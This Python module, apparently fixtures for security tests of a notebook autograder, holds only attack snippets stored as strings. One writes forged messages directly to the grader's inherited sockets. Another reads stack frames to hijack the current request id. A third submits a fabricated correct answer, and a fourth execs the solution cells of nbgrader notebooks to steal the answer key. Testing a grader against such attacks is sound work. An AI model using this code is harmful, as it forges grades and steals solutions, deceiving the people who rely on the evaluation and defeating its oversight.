"""Student code that several attacks begin with, as text."""

from __future__ import annotations

# What writes to the grader past the shell: `to_grader(framed(message))`.
TO_GRADER = """
import json, os, socket, struct

def framed(message):
    body = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack("!I", len(body)) + body

def to_grader(raw):
    for fd in range(3, 64):
        try:
            with socket.socket(fileno=os.dup(fd)) as grader:
                grader.sendall(raw)
        except OSError:
            pass
"""

# What answers the question that is being asked, whose number is in the frames of who answers it.
SAY = f"""
{TO_GRADER}
import sys

def asked():
    for frame in sys._current_frames().values():
        while frame is not None:
            message = frame.f_locals.get("message")
            if isinstance(message, dict) and "id" in message:
                return message["id"]
            frame = frame.f_back

def say(observation, **more):
    to_grader(framed({{"id": asked(), "outputs": [], "observation": observation, **more}}))
"""

# An observation of a function that returns one number at all of its inputs.
CLAIMED = """
def claimed(exercise, calls, number):
    value = {"kind": "number", "type": "float", "dtype": "float", "numbers": [number]}
    answer = {"kind": "callable", "type": "function"}
    return json.dumps({"exercise": exercise, "answer": answer, "calls": [{"value": value}] * calls})
"""

# That observation, as the answer to whatever is being asked.
CLAIM = f"""
{SAY}
{CLAIMED}
def claim():
    say(claimed("scalar_gradients.d_square", 3, 2.0))
"""

# The names that the answer cells of notebooks define: `stolen_from(pattern, …)["d_square"]`.
STOLEN_FROM = """
import glob, json
import math, numpy as np, torch, torch.nn.functional as F

def stolen_from(*patterns):
    stolen = {"math": math, "np": np, "torch": torch, "F": F}
    for path in [path for pattern in patterns for path in glob.glob(pattern)]:
        for cell in json.load(open(path))["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
                try:
                    exec("".join(cell["source"]), stolen)
                except Exception:
                    pass
    return stolen
"""
